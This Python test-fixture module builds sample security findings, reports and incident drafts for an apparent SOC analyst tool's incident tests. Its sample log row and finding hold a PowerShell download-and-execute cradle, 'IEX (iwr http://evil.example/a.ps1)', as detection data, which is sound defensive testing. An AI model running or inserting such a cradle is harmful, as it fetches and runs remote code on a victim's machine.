"""Finished cases for the tests of incidents, made of values and written as a run would leave them."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from soc_analyst.state.entities import Entity, Reading, TimeWindow
from soc_analyst.state.findings import Claim, EvidenceRef, Finding, Mitre, Rule
from soc_analyst.state.report import QueryReport, Report, Usage
from soc_analyst.tools.incidents.draft import Draft, Drafts
from soc_analyst.tools.incidents.drafting import chosen, draft_of
from soc_analyst.tools.incidents.target import parse_target
from soc_analyst.tools.records.cases import CaseFolder, CaseHeader
from soc_analyst.tools.records.dossier import Dossier

NOW = datetime(2026, 3, 4, 12, tzinfo=UTC)
SUBSCRIPTION = "11111111-1111-4111-8111-111111111111"
WORKSPACE = "22222222-2222-4222-8222-222222222222"
RESOURCE = (
    f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-soc/providers/Microsoft.OperationalInsights/workspaces/law-soc"
)
ROW = {
    "TimeGenerated": "2026-03-04T11:30:00Z",
    "DeviceName": "ws-1.contoso.com",
    "ProcessCommandLine": "powershell IEX (iwr http://evil.example/a.ps1)",
    "AccountUpn": "jdoe@contoso.com",
}


def finding(name: str = "f-1", *, rows: Sequence[Mapping[str, Any]] = (ROW,), **more: Any) -> Finding:
    """Return a confirmed finding, as a report holds it."""
    refs = [EvidenceRef(query_id="r1q1", table="DeviceProcessEvents", row=n, time=NOW) for n in range(len(rows))]
    given = {
        "id": name,
        "title": "PowerShell cradle on ws-1.contoso.com",
        "description": "A console fetched a script from http://evil.example/a.ps1 and ran it.",
        "mitre": Mitre(tactic="Execution", technique="Command and Scripting Interpreter", id="T1059.001"),
        "log_lines": tuple(json.dumps(row) for row in rows),
        "confidence": "High",
        "recommendations": ("create incident",),
        "indicators_of_compromise": ("http://evil.example/a.ps1", "203.0.113.77"),
        "tags": ("attack.t1059.001", "attack.t1105", "attack.command-and-control"),
        "time": NOW,
        "entities": (Entity(kind="host", value="ws-1.contoso.com"), Entity(kind="ip", value="203.0.113.77")),
        "evidence": tuple(refs),
        "detections": (Rule(id="r", title="Cradle", level="high", author="soc-analyst", license="MIT"),),
        "claims": (Claim(kind="exists", statement="The cited rows were returned.", verified=True, detail="1 of 1"),),
    }
    return Finding.model_validate({**given, **more})


def report(*findings: Finding, thread: str = "case-1", **more: Any) -> Report:
    """Return the report of a confirmed case."""
    kql = 'DeviceProcessEvents\n| where TimeGenerated >= datetime(2026-03-04) and FileName =~ "powershell.exe"'
    query = QueryReport(
        id="r1q1", round=1, purpose="What ran", table="DeviceProcessEvents", kql=kql, status="ok", rows=1,
        truncated=False, elapsed_ms=1.0,
    )  # fmt: skip
    given = {
        "thread_id": thread, "question": "What ran on ws-1?", "model": "none", "policy_hash": "p",
        "outcome": "confirmed", "summary": "Confirmed.", "window": TimeWindow(start=NOW - timedelta(days=1), end=NOW),
        "findings": findings or (finding(),), "queries": (query,), "rounds": 1, "usage": Usage(),
    }  # fmt: skip
    return Report.model_validate({**given, **more})


def drafts(*findings: Finding, endpoint: str = "https://127.0.0.1:1", **more: Any) -> Drafts:
    """Return what would be written of a case."""
    case = report(*findings, **more)
    made: tuple[Draft, ...] = tuple(draft_of(one, case, workspace="a workspace") for one in chosen(case, ()))
    return Drafts(parse_target(RESOURCE, endpoint=endpoint), made)


def keep(root: Path, case: Report, *, workspace: str = f"azure:{WORKSPACE}", policy: Path | None = None) -> None:
    """Leave a case in a data folder."""
    folder = CaseFolder(root / "cases" / case.thread_id)
    options = {"workspace": workspace, "policy": str(policy) if policy else None}
    folder.open(CaseHeader(thread_id=case.thread_id, question=case.question, started=NOW, options=options))
    dossier = Dossier(
        asked=1, reading=Reading(window=case.window), records=(), coverage=(), hypotheses=(), rounds=1, warnings=(),
        budget_reached="", lacking={}, rules="",
    )  # fmt: skip
    folder.close(case, dossier)
